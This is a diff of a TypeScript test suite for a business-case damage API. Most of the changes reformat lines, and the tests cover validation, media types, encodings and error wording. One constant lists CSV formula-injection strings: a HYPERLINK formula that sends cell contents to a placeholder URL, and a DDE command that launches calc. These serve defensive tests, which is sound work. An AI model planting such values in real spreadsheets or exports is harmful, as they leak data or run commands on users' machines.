@@ -6,7 +6,8 @@ import { call, expectDocumented, expectProblem, parseDelimited, postJson } from 
 const OP: [string, string] = ['POST', '/v1/business-case'];
 const clone = () => structuredClone(workedExample) as unknown as Record<string, any>;
 
-const BILLING = 'customers=100000&lifetimeValue=500&prevalence=0.12&complaintRate=0.5&satisfied=0.4&mollified=0.2&dissatisfied=0.4&costPerComplaint=8';
+const BILLING =
+  'customers=100000&lifetimeValue=500&prevalence=0.12&complaintRate=0.5&satisfied=0.4&mollified=0.2&dissatisfied=0.4&costPerComplaint=8';
 const WORKED_GET =
   'customers=100000&lifetimeValue=500' +
   '&problem=billing-errors,prevalence:0.12,complaintRate:0.5,outcomes:0.4/0.2/0.4,costPerComplaint:8' +
@@ -16,7 +17,7 @@ const WORKED_GET =
 
 /** Texts a spreadsheet runs as formulas, as ids and names may carry them. */
 const FORMULA_NAMES = ['=HYPERLINK("http://x/?"&A1,"y")', '+1+1', '-2+3', '@SUM(A1)', '\u200f=1+1 rtl', 'a;=1+1', 'quote " tab-free'];
-const FORMULA_IDS = ['=HYPERLINK("x"&A1;"y")', '+cmd|\' -C calc\'!A0', '-2+3', '@SUM(A1)', "a;=1+1"];
+const FORMULA_IDS = ['=HYPERLINK("x"&A1;"y")', "+cmd|' -C calc'!A0", '-2+3', '@SUM(A1)', 'a;=1+1'];
 
 const NUMBER = /^-?(\d+\.?\d*|\.\d+)(e[-+]?\d+)?$/i;
 
@@ -93,7 +94,9 @@ describe('bounded work and answers', () => {
   });
 
   it('refuses a long non-number in the compact form without quoting all of it', async () => {
-    const res = await call(`/v1/business-case?${WORKED_GET.replace('prevalence:0.12', `prevalence:${'9'.repeat(50_000)}x`)}&format=txt&field=totals.totalAnnualDamage`);
+    const res = await call(
+      `/v1/business-case?${WORKED_GET.replace('prevalence:0.12', `prevalence:${'9'.repeat(50_000)}x`)}&format=txt&field=totals.totalAnnualDamage`,
+    );
     expect(res.status).toBe(422);
     expect(await res.text()).toBe('problems[0].prevalence: must be a number of at most 64 characters (got 50001)');
   });
@@ -191,7 +194,9 @@ describe('ids and names', () => {
   });
 
   it('applies the same rules to the GET form', async () => {
-    const res = await call(`/v1/business-case?${WORKED_GET.replace('problem=billing-errors', 'problem=42')}&format=txt&field=totals.totalAnnualDamage`);
+    const res = await call(
+      `/v1/business-case?${WORKED_GET.replace('problem=billing-errors', 'problem=42')}&format=txt&field=totals.totalAnnualDamage`,
+    );
     expect(res.status).toBe(422);
     expect(await res.text()).toMatch(/^problems\[0\]\.id: must not be only digits/);
   });
@@ -220,7 +225,12 @@ describe('shares', () => {
     const byId = Object.fromEntries(body.problems.map((p) => [p.id, p]));
     expect(byId.delighted!.totalAnnualDamage).toBeLessThan(0);
     expect(byId.never!.totalAnnualDamage).toBe(0);
-    expect([byId.delighted!.share, byId.delighted!.cumulativeShare, byId.never!.share, byId.never!.cumulativeShare]).toEqual([null, null, null, null]);
+    expect([byId.delighted!.share, byId.delighted!.cumulativeShare, byId.never!.share, byId.never!.cumulativeShare]).toEqual([
+      null,
+      null,
+      null,
+      null,
+    ]);
     expect(byId['late-delivery']!.share).toBeCloseTo(8135000 / 12209000, 12);
     expect(byId['billing-errors']!.cumulativeShare).toBe(1);
     const csv = parseDelimited(await (await postJson('/v1/business-case?format=csv', s)).text());
@@ -264,14 +274,20 @@ describe('clear words', () => {
   it('a missing problem parameter shows the form', async () => {
     const problem = await expectProblem(await call('/v1/business-case?customers=100&lifetimeValue=5'), 422, ['GET', '/v1/business-case']);
     expect(problem.errors).toEqual([
-      { path: 'problem', message: 'is required: give one problem per parameter, such as problem=billing-errors,prevalence:0.12,complaintRate:0.5,outcomes:0.4/0.2/0.4' },
+      {
+        path: 'problem',
+        message: 'is required: give one problem per parameter, such as problem=billing-errors,prevalence:0.12,complaintRate:0.5,outcomes:0.4/0.2/0.4',
+      },
     ]);
   });
 
   it('shows the value a whole number was given as, with one error per value', async () => {
     const res = await call(`/v1/problem-damage?${BILLING.replace('customers=100000', 'customers=1.5')}&field=affected`);
     expect(await res.text()).toBe('customers: must be a whole number (got 1.5)');
-    const far = await expectProblem(await call(`/v1/problem-damage?${BILLING.replace('customers=100000', 'customers=-1e17')}`), 422, ['GET', '/v1/problem-damage']);
+    const far = await expectProblem(await call(`/v1/problem-damage?${BILLING.replace('customers=100000', 'customers=-1e17')}`), 422, [
+      'GET',
+      '/v1/problem-damage',
+    ]);
     expect(far.errors).toEqual([{ path: 'customers', message: 'must be at least 1 (got -100000000000000000)' }]);
     expect(far.detail).toMatch(/^1 field is invalid/);
   });
@@ -282,11 +298,16 @@ describe('clear words', () => {
       ['constructor:1', 'problems[0].constructor'],
       ['complaintrate:0.5', 'problems[0].complaintrate'],
     ]) {
-      const problem = await expectProblem(await call(`/v1/business-case?${WORKED_GET.replace('costPerComplaint:8', key!)}`), 422, ['GET', '/v1/business-case']);
+      const problem = await expectProblem(await call(`/v1/business-case?${WORKED_GET.replace('costPerComplaint:8', key!)}`), 422, [
+        'GET',
+        '/v1/business-case',
+      ]);
       expect(problem.errors.map((e) => e.path)).toEqual([path]);
       expect(problem.errors[0]!.message).toMatch(/^is not a key of a problem; the keys are name, prevalence/);
     }
-    const twice = await call(`/v1/business-case?${WORKED_GET.replace('costPerComplaint:8', 'costPerComplaint:8,costPerComplaint:9')}&field=totals.totalAnnualDamage`);
+    const twice = await call(
+      `/v1/business-case?${WORKED_GET.replace('costPerComplaint:8', 'costPerComplaint:8,costPerComplaint:9')}&field=totals.totalAnnualDamage`,
+    );
     expect(await twice.text()).toBe('problems[0].costPerComplaint: is given twice in this problem');
   });
 
@@ -311,10 +332,20 @@ describe('clear words', () => {
 
 describe('HTTP details', () => {
   const send = (type: string | undefined, body: BodyInit, headers: Record<string, string> = {}) =>
-    call('/v1/business-case?field=totals.totalAnnualDamage', { method: 'POST', headers: { ...(type ? { 'content-type': type } : {}), ...headers }, body });
+    call('/v1/business-case?field=totals.totalAnnualDamage', {
+      method: 'POST',
+      headers: { ...(type ? { 'content-type': type } : {}), ...headers },
+      body,
+    });
 
   it('application/json with parameters, spaces or capitals is JSON', async () => {
-    for (const type of ['application/json', 'application/json; charset=utf-8', 'application/json ; charset=UTF-8', ' Application/JSON ', 'application/json;charset="utf-8"']) {
+    for (const type of [
+      'application/json',
+      'application/json; charset=utf-8',
+      'application/json ; charset=UTF-8',
+      ' Application/JSON ',
+      'application/json;charset="utf-8"',
+    ]) {
       const res = await send(type, JSON.stringify(workedExample));
       expect(res.status, type).toBe(200);
       expect(await res.text()).toBe('12209000');
@@ -322,7 +353,14 @@ describe('HTTP details', () => {
   });
 
   it('every other media type gets the one 415 with Accept-Post', async () => {
-    for (const type of ['text/plain', 'application/jsonx', 'application/problem+json', 'application/x-www-form-urlencoded', 'multipart/form-data; boundary=x', 'json']) {
+    for (const type of [
+      'text/plain',
+      'application/jsonx',
+      'application/problem+json',
+      'application/x-www-form-urlencoded',
+      'multipart/form-data; boundary=x',
+      'json',
+    ]) {
       const res = await call('/v1/business-case', { method: 'POST', headers: { 'content-type': type }, body: JSON.stringify(workedExample) });
       const problem = await expectProblem(res.clone(), 415, OP);
       expect(problem.detail, type).toMatch(/^Send the body as JSON with "Content-Type: application\/json" \(got "/);
@@ -332,7 +370,11 @@ describe('HTTP details', () => {
 
   it('an encoded body gets 415, never a parser error with binary in it', async () => {
     const gzip = new Uint8Array([0x1f, 0x8b, 0x08, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x03, 0xff, 0xfe, 0x00]);
-    const res = await call('/v1/business-case', { method: 'POST', headers: { 'content-type': 'application/json', 'content-encoding': 'gzip' }, body: gzip });
+    const res = await call('/v1/business-case', {
+      method: 'POST',
+      headers: { 'content-type': 'application/json', 'content-encoding': 'gzip' },
+      body: gzip,
+    });
     const problem = await expectProblem(res.clone(), 415, OP);
     expect(problem.detail).toBe('Send the body unencoded: Content-Encoding "gzip" is not accepted.');
     expect(res.headers.get('accept-encoding')).toBe('identity');
@@ -341,7 +383,11 @@ describe('HTTP details', () => {
 
   it('a body that is not UTF-8 gets 400', async () => {
     const latin1 = new Uint8Array([...new TextEncoder().encode('{"customers": 1, "x": "'), 0xe9, 0xff, ...new TextEncoder().encode('"}')]);
-    const problem = await expectProblem(await call('/v1/business-case', { method: 'POST', headers: { 'content-type': 'application/json' }, body: latin1 }), 400, OP);
+    const problem = await expectProblem(
+      await call('/v1/business-case', { method: 'POST', headers: { 'content-type': 'application/json' }, body: latin1 }),
+      400,
+      OP,
+    );
     expect(problem.detail).toBe('The body is not UTF-8 text: send the JSON encoded as UTF-8.');
   });
 
@@ -424,7 +470,10 @@ describe('found by a hostile reading', () => {
 
   it('the same error is listed once', async () => {
     const twice = Array.from({ length: 100 }, () => 'prevalence:0.1').join(',');
-    const problem = await expectProblem(await call(`/v1/business-case?${WORKED_GET.replace('prevalence:0.12', twice)}`), 422, ['GET', '/v1/business-case']);
+    const problem = await expectProblem(await call(`/v1/business-case?${WORKED_GET.replace('prevalence:0.12', twice)}`), 422, [
+      'GET',
+      '/v1/business-case',
+    ]);
     expect(problem.errors).toEqual([{ path: 'problems[0].prevalence', message: 'is given twice in this problem' }]);
   });
 
